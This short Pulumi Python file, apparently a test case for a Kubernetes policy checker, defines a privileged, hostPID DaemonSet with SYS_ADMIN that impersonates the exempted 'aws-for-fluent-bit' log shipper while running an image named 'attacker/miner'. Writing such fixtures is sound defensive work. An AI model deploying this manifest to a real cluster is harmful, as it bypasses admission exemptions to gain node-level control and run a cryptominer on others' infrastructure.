"""A privileged hostPID DaemonSet with SYS_ADMIN named like prod's exempted log shipper, running an arbitrary image."""

import pulumi_kubernetes as k8s

k8s.apps.v1.DaemonSet(
    "aws-for-fluent-bit",
    metadata={"name": "aws-for-fluent-bit", "namespace": "logging"},
    spec={
        "selector": {"matchLabels": {"app": "aws-for-fluent-bit"}},
        "template": {
            "metadata": {"labels": {"app": "aws-for-fluent-bit"}},
            "spec": {
                "hostPID": True,
                "containers": [
                    {
                        "name": "shipper",
                        "image": "docker.io/attacker/miner:1.0",
                        "securityContext": {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}},
                    }
                ],
            },
        },
    },
)
